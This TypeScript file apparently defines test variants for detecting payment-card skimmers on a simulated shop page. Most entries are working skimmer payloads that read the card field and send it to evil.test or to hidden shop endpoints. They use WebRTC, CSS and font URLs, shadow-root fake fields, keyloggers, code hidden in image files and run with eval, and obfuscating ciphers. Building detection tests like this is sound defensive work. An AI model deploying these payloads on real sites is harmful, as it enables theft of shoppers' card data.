import { type Site, sources } from './page.ts'
import { html, inline, shopAt, js, type Variant } from './variants.ts'

const shop = shopAt('17')
const number = 'document.querySelector("[name=cardnumber]")'
const onBlur = (send: string) =>
  `addEventListener("load", function () { ${number}.addEventListener("blur", function (e) { var v = e.target.value; ${send} }); });`
const sealed =
  'var o = "", k = [71, 3, 199, 88, 120, 5, 61, 240, 17, 33, 9, 201]; for (var i = 0; i < v.length; i++) o += String.fromCharCode((v.charCodeAt(i) * 5 + k[i % 12] * (i + 3)) % 256); o = btoa(o);'
const keyed =
  'var o = ""; for (var i = 0; i < v.length; i++) o += String.fromCharCode(v.charCodeAt(i) ^ "key!".charCodeAt(i % 4)); o = btoa(o);'

/** Attacks that hide: ways out that are no ordinary request, fields that no selector finds, data that only looks harmless. */
export const hiddenAttacks: readonly Variant[] = [
  inline(
    'webrtc-turn',
    'as the user name for a relay',
    onBlur(
      'var p = new RTCPeerConnection({ iceServers: [{ urls: "turn:evil.test", username: btoa(v), credential: "x" }] }); p.createDataChannel("d"); p.createOffer().then(function (o) { return p.setLocalDescription(o); });',
    ),
  ),
  inline(
    'webtransport',
    'over WebTransport',
    onBlur('try { new WebTransport("https://evil.test/" + btoa(v)); } catch (x) {}'),
  ),
  {
    id: 'css-exfil',
    about: 'style rules fetch by what the field holds',
    change: (site: Site) => {
      site.extra.push(
        `<style>${[...'0123456789'].map((d) => `[name=cardnumber][value$="${d}"]{background:url(http://shop.test/i/${d}.png)}`).join('')}</style>`,
      )
      site.inline.push(
        `addEventListener("load", function () { var f = ${number}; f.oninput = function () { f.setAttribute("value", f.value); }; });`,
      )
    },
  },
  inline(
    'font-face',
    'in the address of a font',
    onBlur('new FontFace("x", "url(http://evil.test/f?d=" + btoa(v) + ")").load().catch(function () {});'),
  ),
  inline(
    'stylesheet-link',
    'in the address of a style sheet of the shop',
    onBlur(
      'var l = document.createElement("link"); l.rel = "stylesheet"; l.href = "/theme.css?v=" + btoa(v); document.head.append(l);',
    ),
  ),
  inline(
    'speculation-rules',
    'as a page to fetch ahead',
    onBlur(
      'var s = document.createElement("script"); s.type = "speculationrules"; s.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: ["http://evil.test/" + btoa(v)] }] }); document.head.append(s);',
    ),
  ),
  {
    id: 'message-hidden-frame',
    about: 'posted to a hidden frame that sends it on',
    change: (site: Site) => {
      site.files['shop.test/help'] = {
        type: 'text/html',
        body: '<script>addEventListener("message", function (e) { new Image().src = "/i.png?r=" + Math.random() + "&d=" + encodeURIComponent(e.data); });</script>',
      }
      site.extra.push('<iframe src="/help" width="0" height="0" style="display:none"></iframe>')
      site.inline.push(
        onBlur(`${sealed} document.querySelector("iframe[src='/help']").contentWindow.postMessage(o, "*");`),
      )
    },
  },
  shop(
    'closed-shadow',
    'a fake field in a closed shadow root',
    'addEventListener("load", function () { var d = document.createElement("div"); document.body.append(d); d.attachShadow({ mode: "closed" }).innerHTML = "<label>Card number <input name=cc-number autocomplete=cc-number></label>"; });',
  ),
  html(
    'declarative-shadow',
    'a fake field in a shadow root made by the page itself',
    '<div><template shadowrootmode="closed"><label>Card number <input autocomplete="cc-number" name="n2"></label></template></div>',
  ),
  html(
    'srcdoc-reads-parent',
    'a frame made of text reads the page around it',
    `<iframe hidden srcdoc="<script>setInterval(function () { var f = parent.document.querySelector('[name=cardnumber]'); if (f && f.value.length > 11) new Image().src = 'http://evil.test/p?' + btoa(f.value); }, 100)</script>"></iframe>`,
  ),
  shop(
    'blank-frame',
    'a form written into an empty frame',
    'addEventListener("load", function () { var f = document.createElement("iframe"); document.body.append(f); f.contentDocument.body.innerHTML = "<input name=cardnumber placeholder=\'Card number\'>"; });',
  ),
  inline(
    'address-bar',
    'put into the address of the page',
    onBlur('history.replaceState(null, "", "?ref=" + btoa(v));'),
  ),
  inline('window-name', 'kept in the name of the window', onBlur('window.name = btoa(v);')),
  inline(
    'storage-keyed',
    'kept, ciphered with a key of four bytes',
    onBlur(`${keyed} localStorage.setItem("theme", o);`),
  ),
  inline(
    'storage-removed',
    'kept, sent to the shop itself later and removed',
    onBlur(
      `${keyed} sessionStorage.setItem("s", o); setTimeout(function () { new Image().src = "/i.png?" + sessionStorage.getItem("s"); sessionStorage.removeItem("s"); }, 50);`,
    ),
  ),
  inline(
    'indexed-db',
    'kept in a database',
    onBlur(
      'var r = indexedDB.open("c", 1); r.onupgradeneeded = function () { r.result.createObjectStore("s"); }; r.onsuccess = function () { r.result.transaction("s", "readwrite").objectStore("s").put({ d: btoa(v) }, 1); };',
    ),
  ),
  inline(
    'key-logger',
    'gathers keys on the whole document',
    'var b = ""; document.addEventListener("keydown", function (e) { b += e.key; if (b.length > 80) { navigator.sendBeacon("http://evil.test/k", btoa(b)); b = ""; } });',
  ),
  inline(
    'key-by-key',
    'sends each key to the shop itself',
    'document.addEventListener("keyup", function (e) { if (e.target.name === "cardnumber") new Image().src = "/i.png?n=" + Date.now() + "&c=" + e.key; });',
  ),
  {
    id: 'picture-script',
    about: 'a picture that is a script',
    change: (site: Site) => {
      site.files['shop.test/logo.gif'] = js(`GIF89a = 1; ${onBlur('fetch("/c?n=" + btoa(v))')}`)
      site.extra.push('<script src="/logo.gif"></script>')
    },
  },
  {
    id: 'picture-payload',
    about: 'code taken from a picture',
    change: (site: Site) => {
      site.files['shop.test/pixel.png'] = {
        type: 'image/png',
        body: `xx##${onBlur('fetch("http://evil.test/c?n=" + v)').replace('addEventListener("load", ', '(').replace(/\);$/, ')();')}`,
      }
      site.inline.push(
        'addEventListener("load", function () { fetch("/pixel.png").then(function (r) { return r.text(); }).then(function (t) { (0, eval)(t.split("##")[1]); }); });',
      )
    },
  },
  inline(
    'trusted-types',
    'a policy that lets everything pass',
    'if (window.trustedTypes) trustedTypes.createPolicy("default", { createHTML: function (s) { return s; }, createScriptURL: function (s) { return s; }, createScript: function (s) { return s; } });',
  ),
  {
    id: 'base-address',
    about: 'relative addresses lead elsewhere',
    change: (site: Site) => void site.head.push('<base href="http://evil.test/">'),
  },
  inline(
    'jsonp-known-host',
    'in the address of a script of a known host',
    onBlur(
      `${keyed} var s = document.createElement("script"); s.src = "http://metrics.test/j?d=" + encodeURIComponent(o); document.head.append(s);`,
    ),
  ),
  shop(
    'sealed-own-host',
    'encrypted, to the shop itself',
    onBlur(`${sealed} fetch("/api/log", { method: "POST", body: o });`),
  ),
  {
    id: 'sealed-known-host',
    about: 'the measuring script sends it encrypted to its own host',
    change: (site: Site) => {
      site.files['metrics.test/m.js'] = js(
        sources.metrics('A-1') +
          onBlur(`${sealed} new Image().src = "http://metrics.test/hit?z=" + encodeURIComponent(o);`),
      )
    },
  },
  shop(
    'packed-own-host',
    'packed, to the shop itself',
    onBlur(
      'new Response(new Blob([v]).stream().pipeThrough(new CompressionStream("gzip"))).arrayBuffer().then(function (b) { fetch("/api/log", { method: "POST", body: b }); });',
    ),
  ),
  shop('number-base-own-host', 'as a number in base 36', onBlur('fetch("/api/stat?id=" + BigInt(v).toString(36));')),
  shop(
    'form-data-own-host',
    'all fields as JSON in base64',
    'document.getElementById("pay").addEventListener("submit", function (e) { fetch("/api/log", { method: "POST", body: btoa(JSON.stringify(Object.fromEntries(new FormData(e.target)))) }); });',
  ),
  inline(
    'debugger-trap',
    'stops watchers and steals',
    `setInterval(function () { debugger; }, 50); ${onBlur('fetch("http://evil.test/c?n=" + btoa(v))')}`,
  ),
  shop(
    'handler-attribute',
    'as an attribute of the field',
    `addEventListener("load", function () { ${number}.setAttribute("onblur", "new Image().src='/i.png?'+btoa(this.value)"); });`,
  ),
  inline(
    'hooked-send',
    'copies whatever the page sends',
    'var send = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (body) { if (body) navigator.sendBeacon("/api/log", body); return send.apply(this, arguments); };',
  ),
  inline(
    'worker-sends',
    'a worker made from text sends it',
    onBlur(
      "var w = new Worker(URL.createObjectURL(new Blob([\"onmessage = function (e) { fetch('http://evil.test/w?' + btoa(e.data), { mode: 'no-cors' }); }\"]))); w.postMessage(v);",
    ),
  ),
]
